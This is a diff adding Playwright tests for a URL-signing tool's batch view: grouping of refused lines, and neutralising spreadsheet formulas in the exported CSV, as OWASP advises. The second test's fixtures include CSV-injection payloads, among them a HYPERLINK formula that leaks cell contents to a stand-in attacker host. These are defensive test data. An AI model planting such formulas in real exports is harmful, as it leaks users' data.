@@ -90,3 +90,70 @@ test('a batch can be cancelled part way, keeping what was signed', async ({ sign
   const text = (await panel.locator('#batch-summary').textContent()) ?? '';
   expect(Number(text.split(' ')[0])).toBeLessThan(5_000);
 });
+
+test('refused lines are grouped by reason with counts, the first few shown, and the lines that encoding fixes are encoded and signed in one go', async ({
+  signet,
+}) => {
+  await pasteKey(signet);
+  await openView(signet, 'Batch');
+  const panel = visiblePanel(signet);
+  await panel.getByLabel('Key pair ID', { exact: true }).fill(KEY_PAIR_ID);
+  const spaced = Array.from({ length: 5 }, (_, i) => `${DISTRIBUTION}/my photo ${i}.jpg`);
+  const list = [`${DISTRIBUTION}/ok.jpg`, ...spaced, 'not a url', 'also not a url'];
+  await panel.getByLabel('URLs to sign').fill(list.join('\n'));
+  await panel.getByRole('button', { name: 'Sign 8 URLs' }).click();
+  await expect(panel.locator('#batch-summary')).toHaveText('1 signed, 7 refused.');
+
+  const groups = panel.locator('#batch-errors .group');
+  await expect(groups).toHaveCount(2);
+  await expect(groups.nth(0).locator('h4')).toHaveText(
+    'Characters a browser would send differently 5 lines',
+  );
+  await expect(groups.nth(1).locator('h4')).toHaveText('Not a URL 2 lines');
+  // Beyond the first three, lines wait behind "more".
+  await expect(groups.nth(0).locator('li:visible')).toHaveCount(3);
+  await expect(groups.nth(0).locator('summary')).toHaveText('2 more');
+
+  await groups.nth(0).getByRole('button', { name: 'Encode these 5 lines and sign them' }).click();
+  await expect(panel.locator('#batch-summary')).toHaveText('6 signed, 2 refused.');
+  const download = signet.waitForEvent('download');
+  await panel.getByRole('button', { name: 'Download CSV' }).click();
+  const rows = readFileSync(await (await download).path(), 'utf8')
+    .trimEnd()
+    .split('\r\n');
+  const publicKey = keyText('rsa-2048-public.pem');
+  const [line, url, signed] = (rows[3] ?? '').split(',');
+  expect(line).toBe('3');
+  expect(url).toBe(`${DISTRIBUTION}/my%20photo%201.jpg`);
+  expect(verifySignedUrl(signed ?? '', publicKey)).toBe(true);
+});
+
+test('the CSV neutralises cells a spreadsheet would run as formulas, as OWASP advises', async ({
+  signet,
+}) => {
+  await pasteKey(signet);
+  await openView(signet, 'Batch');
+  const panel = visiblePanel(signet);
+  await panel.getByLabel('Key pair ID', { exact: true }).fill(KEY_PAIR_ID);
+  const formulas = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    '+1+1',
+    '-2+3',
+    '@SUM(A1:A9)',
+    '\t=1+1',
+  ];
+  await panel.getByLabel('URLs to sign').fill([`${DISTRIBUTION}/a.jpg`, ...formulas].join('\n'));
+  await panel.getByRole('button', { name: 'Sign 6 URLs' }).click();
+  await expect(panel.locator('#batch-summary')).toHaveText('1 signed, 5 refused.');
+  const download = signet.waitForEvent('download');
+  await panel.getByRole('button', { name: 'Download CSV' }).click();
+  const csv = readFileSync(await (await download).path(), 'utf8');
+  for (const formula of formulas) {
+    const trimmed = formula.trim();
+    expect(csv).toContain(`"'${trimmed.replaceAll('"', '""')}"`);
+  }
+  // No cell, quoted or not, starts with a formula character.
+  for (const cell of csv.split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) {
+    expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@\t\r]/);
+  }
+});
